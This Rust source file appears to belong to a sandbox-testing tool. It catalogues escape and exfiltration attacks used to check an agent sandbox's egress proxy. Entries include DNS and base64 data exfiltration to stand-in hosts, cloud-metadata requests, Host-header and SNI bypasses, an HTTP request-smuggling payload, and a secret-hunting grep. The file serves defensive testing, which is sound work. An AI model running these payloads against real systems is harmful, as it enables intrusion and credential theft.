//! The attacks, as data. To add one: a line in [`ATTACKS`].
//!
//! An attack's line says everything about it: what runs inside the sandbox, what proves its success, and the sandbox in
//! which it must succeed, so that a broken attack is not taken for a refused one. Words in braces are filled in for
//! each run (see `subject.rs`): `{marker}` is new each time.

use super::canaries::Ear;

/// One attack.
#[derive(Debug)]
pub struct Attack {
    /// Its stable name, for scripts.
    pub id: &'static str,
    /// What it tries, for a person.
    pub tries: &'static str,
    /// Its chapter in the report.
    pub area: Area,
    /// What runs inside.
    pub run: Run,
    /// The proof of its success.
    pub proof: Proof,
    /// The sandbox in which it must succeed.
    pub control: Control,
    /// Whether it needs a user per group, which not every engine provides.
    pub only_with_users: bool,
}

/// What runs inside the sandbox.
#[derive(Clone, Copy, Debug)]
pub enum Run {
    /// An attack by the guest binary, which needs no tools from the image.
    Guest(&'static [&'static str]),
    /// `curl` through the door, trusting any certificate.
    Curl(&'static [&'static str]),
    /// A command line for `sh`; its output is its finding.
    Shell(&'static str),
}

/// The proof of an attack's success.
#[derive(Clone, Copy, Debug)]
pub enum Proof {
    /// Anything that reaches this canary, even a bare connection.
    Contact(Ear),
    /// This text at that canary: for hosts that other requests may reach.
    Text(Ear, &'static str),
    /// The host's kernel counts an echo request.
    Echo,
    /// Nothing at this canary although another group's sandbox has just made the same request: its answer was cached
    /// for both.
    Silence(Ear),
    /// Nothing outside can tell: the attack's own finding. It runs as the agent, which has no reason to lie here.
    Found,
}

/// The sandbox in which an attack must succeed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Control {
    /// Joined to a network.
    Network,
    /// Without a seccomp profile.
    NoSeccomp,
    /// With its door's folder open for writing.
    WritableDoor,
    /// With the wanted things placed there: a secret, a socket, a file of the host.
    Planted,
    /// With a proxy behind its door that lets everything through.
    OpenProxy,
    /// With another sandbox's user, guest file and resolver.
    Shared,
    /// With files as large as the disk.
    LargeFiles,
}

/// A chapter of the report.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Area {
    /// Ways out that bypass the door.
    Around,
    /// Ways through the door that no rule allows.
    Through,
    /// Credentials where they do not belong.
    Credentials,
    /// What the sandbox itself would give away.
    Inside,
    /// What it could do to another group's sandbox.
    Beside,
}

const LOCAL: &str = "http://127.0.0.1:3128";

/// All attacks, in the order in which they are run and shown.
pub const ATTACKS: &[Attack] = &[
    // Around the door: there is no network.
    around("tcp", "connect to this machine over TCP", &["tcp", "{tcp}", "{marker}"], Proof::Contact(Ear::Tcp)),
    around("udp", "send a datagram to this machine", &["udp", "{udp}", "{marker}"], Proof::Contact(Ear::Udp)),
    around("ipv6", "connect to this machine over IPv6", &["tcp6", "{tcp6}", "{marker}"], Proof::Contact(Ear::Tcp6)),
    around("ping", "ping this machine (ICMP)", &["icmp", "{host}"], Proof::Echo),
    around(
        "dns-udp",
        "ask a name server for a name that carries data",
        &["dns", "{dns}", "{marker}.leak.test"],
        Proof::Contact(Ear::Dns),
    ),
    around("dns-tcp", "the same over TCP", &["tcp", "{dns-tcp}", "{marker}"], Proof::Contact(Ear::DnsTcp)),
    // Through the door: without a rule nothing passes.
    through(
        "https",
        "an HTTPS site that no rule names",
        &["https://shut.drill.test/{marker}"],
        Proof::Contact(Ear::Shut),
    ),
    through(
        "http",
        "a plain HTTP site that no rule names",
        &["http://plain.drill.test/{marker}"],
        Proof::Contact(Ear::Plain),
    ),
    through(
        "port",
        "another port of an allowed host",
        &["https://open.drill.test:8443/public/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    through(
        "path",
        "another page of an allowed host",
        &["https://open.drill.test/private/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    through(
        "method",
        "another method on an allowed page",
        &["-X", "DELETE", "https://open.drill.test/public/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    through(
        "name",
        "a name that carries data, for the door to resolve",
        &["https://{marker}.leak.test/"],
        Proof::Contact(Ear::Dns),
    ),
    through(
        "metadata",
        "the cloud's metadata service",
        &["http://169.254.169.254/latest/meta-data/{marker}"],
        Proof::Contact(Ear::Metadata),
    ),
    through(
        "loopback",
        "a service on this machine's loopback",
        &["--proxy", LOCAL, "--noproxy", "", "http://{loopback}/{marker}"],
        Proof::Contact(Ear::Loopback),
    ),
    through(
        "mapped",
        "the same in an IPv6 disguise (::ffff:127.0.0.1)",
        &["--proxy", LOCAL, "--noproxy", "", "http://[::ffff:127.0.0.1]:{loopback-port}/{marker}"],
        Proof::Contact(Ear::Loopback),
    ),
    through(
        "rebinding",
        "an allowed name that points to this machine",
        &["https://inside.drill.test/{marker}"],
        Proof::Contact(Ear::Inside),
    ),
    through(
        "host-header",
        "an allowed tunnel, another site in the Host header",
        &["-H", "Host: shut.drill.test", "https://open.drill.test/public/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    through(
        "sni",
        "an allowed tunnel, another site in the TLS handshake",
        &["--connect-to", "shut.drill.test:443:open.drill.test:443", "https://shut.drill.test/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    Attack {
        run: Run::Guest(&[
            "raw-http",
            r"CONNECT ssh.drill.test:443 HTTP/1.1\r\nHost: ssh.drill.test:443\r\n\r\nSSH-2.0-{marker}\r\n",
        ]),
        ..through("ssh", "SSH inside a tunnel to an allowed host", &[], Proof::Contact(Ear::Ssh))
    },
    Attack {
        run: Run::Guest(&[
            "raw-http",
            r"POST http://relay.drill.test/in HTTP/1.1\r\nHost: relay.drill.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{marker} HTTP/1.1\r\nHost: relay.drill.test\r\n\r\n",
        ]),
        ..through(
            "smuggling",
            "a second request hidden behind an allowed one",
            &[],
            Proof::Text(Ear::Relay, "{marker}"),
        )
    },
    // Credentials where they do not belong.
    credentials(
        "foreign-key",
        "a key of the attacker's own, to a host that has a credential",
        &["-H", "Authorization: Bearer key-of-another-{marker}", "https://keyed.drill.test/upload/{marker}"],
        Proof::Contact(Ear::Keyed),
    ),
    credentials(
        "foreign-cookie",
        "a cookie of the attacker's own, to the same host",
        &["-H", "Cookie: session={marker}", "https://keyed.drill.test/upload/{marker}"],
        Proof::Contact(Ear::Keyed),
    ),
    credentials(
        "surrogate-away",
        "the surrogate, to another allowed host",
        &["-H", "Authorization: Bearer {surrogate}", "https://open.drill.test/public/{marker}"],
        Proof::Contact(Ear::Open),
    ),
    credentials(
        "surrogate-query",
        "the surrogate in base64 in an address",
        &["https://open.drill.test/public/{marker}?d={surrogate-base64}"],
        Proof::Contact(Ear::Open),
    ),
    credentials(
        "surrogate-body",
        "the surrogate in base64 in an upload",
        &["--data-binary", "note-{marker}-{surrogate-base64}", "https://open.drill.test/notes"],
        Proof::Text(Ear::Open, "{surrogate-base64}"),
    ),
    credentials(
        "surrogate-other",
        "the surrogate of another sandbox, to its own host",
        &["-H", "Authorization: Bearer {foreign}", "https://keyed.drill.test/upload/{marker}"],
        Proof::Contact(Ear::Keyed),
    ),
    // What the sandbox itself would reveal.
    inside(
        "secret-processes",
        "find the real secret in a process",
        Run::Guest(&["environ", "{secret}"]),
        Control::Planted,
    ),
    inside(
        "secret-files",
        "find the real secret in a file",
        Run::Shell("grep -rslF -e {secret} /workspace /home /etc /run /tmp /opt /var 2>/dev/null"),
        Control::Planted,
    ),
    inside(
        "host-files",
        "open Doorward's own files and the engine's socket",
        Run::Guest(&["files", "{config}", "{data}", "{drill}", "{engine}", "/workspace/group/planted"]),
        Control::Planted,
    ),
    inside("sockets", "find any socket but the door that answers", Run::Guest(&["sockets"]), Control::Planted),
    inside("door", "replace or remove the door", Run::Guest(&["door-replace"]), Control::WritableDoor),
    inside("vsock", "open a socket to a virtual machine's host (vsock)", Run::Guest(&["vsock"]), Control::NoSeccomp),
    inside("io-uring", "use io_uring, which no system call filter sees", Run::Guest(&["io_uring"]), Control::NoSeccomp),
    // Another group's sandbox, which meanwhile holds every lock and all space that it can.
    beside("lock", "feel a lock that the other sandbox holds", Run::Guest(&["locks"]), Control::Shared),
    Attack {
        only_with_users: true,
        ..beside("room", "find what the other has used up of their user's", Run::Guest(&["room"]), Control::Shared)
    },
    Attack {
        proof: Proof::Silence(Ear::Dns),
        ..beside(
            "names",
            "tell by the answer whether the other has asked for a name",
            Run::Curl(&["https://{marker}.names.drill.test/"]),
            Control::Shared,
        )
    },
    beside("aio", "take what the whole machine has of asynchronous I/O", Run::Guest(&["aio"]), Control::NoSeccomp),
    beside(
        "disk",
        "make a file that is larger than all that the group may keep",
        Run::Guest(&["large-file", "{large}"]),
        Control::LargeFiles,
    ),
];

const fn around(id: &'static str, tries: &'static str, run: &'static [&'static str], proof: Proof) -> Attack {
    Attack { area: Area::Around, proof, ..beside(id, tries, Run::Guest(run), Control::Network) }
}

const fn through(id: &'static str, tries: &'static str, run: &'static [&'static str], proof: Proof) -> Attack {
    Attack { area: Area::Through, proof, ..beside(id, tries, Run::Curl(run), Control::OpenProxy) }
}

const fn credentials(id: &'static str, tries: &'static str, run: &'static [&'static str], proof: Proof) -> Attack {
    Attack { area: Area::Credentials, proof, ..beside(id, tries, Run::Curl(run), Control::OpenProxy) }
}

const fn inside(id: &'static str, tries: &'static str, run: Run, control: Control) -> Attack {
    Attack { area: Area::Inside, ..beside(id, tries, run, control) }
}

const fn beside(id: &'static str, tries: &'static str, run: Run, control: Control) -> Attack {
    Attack { id, tries, area: Area::Beside, run, proof: Proof::Found, control, only_with_users: false }
}

impl Area {
    /// In the order of the report.
    pub const ALL: [Area; 5] = [Area::Around, Area::Through, Area::Credentials, Area::Inside, Area::Beside];

    /// The heading.
    pub fn title(self) -> &'static str {
        match self {
            Area::Around => "Around the door: straight to the network",
            Area::Through => "Through the door: where no rule leads",
            Area::Credentials => "Credentials: keys where they do not belong",
            Area::Inside => "Inside the sandbox: what it would give away",
            Area::Beside => "Beside it: what it could do to another group's sandbox",
        }
    }

    /// Why these attacks fail, and what their controls are.
    pub fn explained(self) -> &'static str {
        match self {
            Area::Around => {
                "A sandbox has loopback and nothing else.\nControl: the same, from a sandbox that was joined to a network."
            }
            Area::Through => {
                "The door resolves and connects to nothing before a rule has allowed it.\n\
                 Control: the same, through a proxy that lets everything pass."
            }
            Area::Credentials => {
                "A host with a credential takes this sandbox's surrogate and nothing else; nothing else takes that surrogate.\n\
                 Control: the same, through a proxy that lets everything pass."
            }
            Area::Inside => {
                "Real secrets stay outside; what the kernel and the file system offer is cut down to what an agent needs.\n\
                 Control: the same, where what is looked for was put there or the protection taken away."
            }
            Area::Beside => {
                "Two sandboxes have no file in common, and what the kernel or the disk has for all is shared out.\n\
                 Control: the same, between two sandboxes that share a file, a user and a resolver, or without the bound."
            }
        }
    }

    /// Its name for scripts.
    pub fn as_str(self) -> &'static str {
        match self {
            Area::Around => "around_the_door",
            Area::Through => "through_the_door",
            Area::Credentials => "credentials",
            Area::Inside => "inside_the_sandbox",
            Area::Beside => "beside_the_sandbox",
        }
    }
}

impl Control {
    /// In the order of their setup.
    pub const ALL: [Control; 7] = [
        Control::Network,
        Control::NoSeccomp,
        Control::WritableDoor,
        Control::Planted,
        Control::OpenProxy,
        Control::Shared,
        Control::LargeFiles,
    ];

    /// Its name for scripts and progress messages.
    pub fn as_str(self) -> &'static str {
        match self {
            Control::Network => "network",
            Control::NoSeccomp => "no_seccomp",
            Control::WritableDoor => "writable_door",
            Control::Planted => "planted",
            Control::OpenProxy => "open_proxy",
            Control::Shared => "shared",
            Control::LargeFiles => "large_files",
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn ids_are_unique_and_chapters_are_whole() {
        let ids: BTreeSet<_> = ATTACKS.iter().map(|attack| attack.id).collect();
        assert_eq!(ids.len(), ATTACKS.len());
        assert!(ATTACKS.len() >= 15 && ATTACKS.is_sorted_by_key(|attack| attack.area));
        assert!(Area::ALL.iter().all(|area| ATTACKS.iter().any(|attack| attack.area == *area)));
    }

    /// A control is judged by its marker: without one it would look like noise.
    #[test]
    fn every_attack_on_a_canary_carries_a_marker() {
        for attack in ATTACKS.iter().filter(|attack| matches!(attack.proof, Proof::Contact(_))) {
            let (Run::Guest(words) | Run::Curl(words)) = attack.run else { panic!("{}", attack.id) };
            assert!(words.iter().any(|word| word.contains("{marker}")), "{}", attack.id);
        }
    }
}
